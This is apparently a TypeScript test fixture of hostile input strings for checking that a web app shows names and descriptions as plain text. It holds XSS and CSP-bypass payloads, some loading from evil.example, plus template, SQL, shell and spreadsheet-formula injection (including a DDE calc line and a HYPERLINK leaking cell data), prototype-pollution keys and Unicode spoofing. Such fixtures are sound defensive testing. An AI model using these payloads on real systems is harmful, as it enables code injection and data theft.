/** A text that somebody puts where a name, a title or a description is expected. Scripts among them set `window.pwned`. */
export interface HostileGroup {
  name: string;
  texts: readonly string[];
}

const EVIL = 'evil.example';

/** What must stay text wherever it is shown. Elements that it would make carry `data-pwn`. */
export const HOSTILE: readonly HostileGroup[] = [
  {
    name: 'markup',
    texts: [
      '<script data-pwn>window.pwned=1</script>',
      '</script><script data-pwn>window.pwned=1</script>',
      '</title></style></textarea></noscript></template><script data-pwn>window.pwned=1</script>',
      '<img data-pwn src=x onerror="window.pwned=1">',
      '"><img data-pwn src=x onerror=window.pwned=1>',
      `'" autofocus onfocus="window.pwned=1" onmouseover='window.pwned=1`,
      '<svg data-pwn onload="window.pwned=1"><animate onbegin="window.pwned=1" attributeName="x"></svg>',
      '<svg><![CDATA[<image data-pwn xlink:href="javascript:window.pwned=1">]]></svg>',
      '<math><mtext><table><mglyph><style><img data-pwn src onerror=window.pwned=1>',
      '<iframe data-pwn srcdoc="<script>parent.pwned=1</script>"></iframe>',
      '<details data-pwn open ontoggle=window.pwned=1>',
      '<!--<img data-pwn src="--><img data-pwn src=x onerror=window.pwned=1>',
    ],
  },
  {
    name: 'a way round the policy',
    texts: [
      `<base data-pwn href="https://${EVIL}/">`,
      `<meta data-pwn http-equiv="refresh" content="0;url=https://${EVIL}/">`,
      `<link data-pwn rel="stylesheet" href="https://${EVIL}/a.css"><style data-pwn>@import "//${EVIL}/b.css"</style>`,
      '<script data-pwn nonce="" src="/api/v1/openapi.json?callback=pwned"></script>',
      `<form data-pwn action="https://${EVIL}"><button formaction="javascript:window.pwned=1">`,
      `<div data-pwn style="background:url(https://${EVIL}/c.png)">`,
      `<object data-pwn data="https://${EVIL}/d"></object><embed data-pwn src="//${EVIL}/e">`,
    ],
  },
  {
    name: 'an address',
    texts: [
      'javascript:window.pwned=1',
      'JaVa\tScRiPt:window.pwned=1',
      ' \u0001javascript:window.pwned=1',
      'data:text/html,<script>window.opener.pwned=1</script>',
      'vbscript:msgbox(1)',
      `//${EVIL}/x`,
      `https://user:password@${EVIL}/`,
      'https://[::1',
    ],
  },
  {
    name: 'markdown',
    texts: [
      '[click](javascript:window.pwned=1)',
      `![pixel](https://${EVIL}/pixel.png)`,
      `[a]: https://${EVIL} "t"\n\n[a]`,
      '<javascript:window.pwned=1>',
      '```\n</code></pre><img data-pwn src=x onerror=window.pwned=1>\n```',
      '| a | b |\n| --- | --- |\n# heading @someone #1',
    ],
  },
  {
    name: 'a template',
    texts: [
      '{{constructor.constructor("window.pwned=1")()}}',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of some other engine
      '${globalThis.pwned=1}',
      '<%= 7*7 %>#{7*7}*{7*7}@(7*7)',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of some other engine
      '{{7*7}}[[${7*7}]]',
      '\'; DROP TABLE "Api"; --',
      '%s%n%x$(id)`id`',
    ],
  },
  {
    name: 'hidden characters',
    texts: [
      'user\u202egnp.exe',
      '\u2066left\u2067right\u2068first\u2069\u2069',
      '\u202d\u202b\u202aopen for ever',
      '\u200eleft\u200fright\u061carabic',
      'pay\u200bment\ufeff\u2060s\u00ad',
      'tag\u{e0041}\u{e0042}\u{e007f}',
      'zero\0byte\u0008\u0008\u0008back',
      '\u001b[31mred\u001b[0m\u001b]0;title\u0007\u001b[2J\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
      '\u009b31mred\u0090x\u009c\u0085next',
      'line\u2028paragraph\u2029end\r\nforged: line',
      'half \ud800 a pair \udc00',
      '\u05d0\u05d1\u05d2 1-2 \u0627\u0644\u0639',
      `Z${'\u0335\u0321\u0322\u0316'.repeat(40)}algo`,
    ],
  },
  {
    name: 'a formula',
    texts: [
      `=HYPERLINK("https://${EVIL}?"&A1,"click")`,
      "=cmd|' /C calc'!A0",
      '+1+cmd|x',
      '-2+3+cmd|x',
      '@SUM(1+1)',
      '\t=1+1',
      '\r=1+1',
      '\u200b=1+1',
      '\uff1d1+1',
      '"\n=1+1',
    ],
  },
  {
    name: 'a name that objects have',
    texts: [
      '__proto__',
      'constructor',
      'prototype',
      'toString',
      'hasOwnProperty',
      'then',
      'length',
      '__defineGetter__',
    ],
  },
  {
    name: 'entities and length',
    texts: [
      '&lt;img data-pwn src=x onerror=window.pwned=1&gt;',
      '&#60;script&#62;window.pwned=1&#60;/script&#62;',
      '\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e',
      '%3Cscript%3Ewindow.pwned=1%3C/script%3E',
      'x'.repeat(3000),
      '\u{1f600}'.repeat(400),
      ' '.repeat(300),
    ],
  },
];
